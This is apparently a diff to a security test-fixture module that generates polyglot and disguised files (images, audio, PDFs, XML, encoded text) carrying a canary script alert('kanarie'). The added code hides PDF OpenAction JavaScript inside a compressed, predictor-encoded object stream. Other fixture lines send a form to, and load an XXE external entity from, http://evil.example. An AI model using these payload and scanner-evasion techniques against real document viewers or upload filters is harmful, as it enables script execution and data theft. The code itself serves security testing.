@@ -1,5 +1,6 @@
 /* Sixty and more files that are two things at once, or not what they say; made here, so
    that nothing a scanner would find lies in the repository. SCRIPT tells that it ran. */
+import { deflateSync } from "node:zlib";
 import { zip } from "../http/files.mjs";
 
 const told = "alert('kanarie')";
@@ -20,6 +21,22 @@ const chunk = (text) => { /* a tEXt chunk before IEND; browsers do not mind the 
 	return B(png.subarray(0, 33), n, "tEXtx\0", text, [0, 0, 0, 0], png.subarray(33));
 };
 const pdf = (js) => `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${js})>>/Names<</JavaScript<</Names[(x) 4 0 R]>>>>>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O<</S/JavaScript/JS(${js})>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:${told})>>>>]>>\nendobj\n4 0 obj\n<</S/JavaScript/JS(${js})>>\nendobj\ntrailer<</Size 5/Root 1 0 R>>\n%%EOF\n`;
+/* The script in a packed stream of objects; up: each row of eight as its difference. */
+const packed = (up) => {
+	const text = Buffer.from("5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>".padEnd(48)), rows = [];
+	for (let i = 0; i < text.length; i += 8) rows.push(B([2], text.subarray(i, i + 8).map((c, k) => c - (i ? text[i - 8 + k] : 0))));
+	const data = deflateSync(up ? B(...rows) : text), list = ["<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>", "0", "0", B(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${data.length}${up ? "/DecodeParms<</Predictor 12/Columns 8>>" : ""}>>\nstream\n`, data, "\nendstream")];
+	let out = B("%PDF-1.5\n");
+	const at = [0];
+	for (const [i, o] of list.entries()) {
+		at.push(out.length);
+		out = B(out, `${i + 1} 0 obj\n`, o, "\nendobj\n");
+	}
+	const row = (kind, n, k) => [kind, 0, 0, n >> 8, n & 255, k];
+	const table = deflateSync(Buffer.from([...row(0, 0, 255), ...[1, 2, 3, 4].flatMap((i) => row(1, at[i], 0)), ...row(2, 6, 0), ...row(1, at[6], 0), ...row(1, out.length, 0)]));
+	return B(out, `7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length ${table.length}>>\nstream\n`, table, `\nendstream\nendobj\nstartxref\n${out.length}\n%%EOF\n`);
+};
 const mhtml = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: http://kreide.localhost/\r\n\r\n${page}\r\n--x--\r\n`;
 const utf16 = (text, big) => {
 	const b = Buffer.from(text, "utf16le");
@@ -34,7 +51,7 @@ export const polyglots = [
 		/svg/.test(e) ? svg : /xh/.test(e) ? xhtml : /mht/.test(e) ? mhtml : /js$/.test(e) ? told : page]),
 	["bild.svg.png", svg], ["bild.png.html", B(png, page)], ["bild.jpg", B(jpeg, comment(page), page)], ["bild.gif", B(gif, page)], ["GIFAR.gif", B(gif, zip("x.html", page))], ["bild.png", chunk(page)],
 	["js.gif", `GIF89a=1;${told};/*`], ["js.jpg", B([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a], `*/=${told}/*`)], ["ton.wav", B(wav, page)], ["js.wav", `RIFF=1;${told}//WAVE`], ["bild.bmp", `BM=1;${told};/*${page}`], ["bild.webp", B("RIFF\x24\0\0\0WEBPVP8 ", page)],
-	["pdf-js.pdf", pdf(`app.alert\\(1\\);this.submitForm\\("http://evil.example/kanarie"\\)`)], ["pdf.html", B(pdf("app.alert\\(1\\)"), page)], ["html.pdf", B(page, pdf("app.alert\\(1\\)"))], ["spaet.pdf", B(" ".repeat(900), pdf("1"), html)],
+	["pdf-js.pdf", pdf(`app.alert\\(1\\);this.submitForm\\("http://evil.example/kanarie"\\)`)], ["pdf-gepackt.pdf", packed(false)], ["pdf-versetzt.pdf", packed(true)], ["pdf.html", B(pdf("app.alert\\(1\\)"), page)], ["html.pdf", B(page, pdf("app.alert\\(1\\)"))], ["spaet.pdf", B(" ".repeat(900), pdf("1"), html)],
 	["bom8.txt", B([0xef, 0xbb, 0xbf], page)], ["bom16le.txt", utf16(page, false)], ["bom16be.txt", utf16(page, true)], ["utf7.txt", utf7], ["utf7-bom.txt", B("+/v8", utf7)], ["iso2022.txt", B([0x1b, 0x24, 0x42], page)],
 	["xsl.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${page.replace("<!doctype html>", "")}</xsl:template></xsl:stylesheet></d>`],
 	["xxe.xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "http://evil.example/kanarie">]><x>&y;</x>`], ["atom.xml", `<feed xmlns="http://www.w3.org/2005/Atom"><content type="html">&lt;script>${told}&lt;/script></content></feed>`],
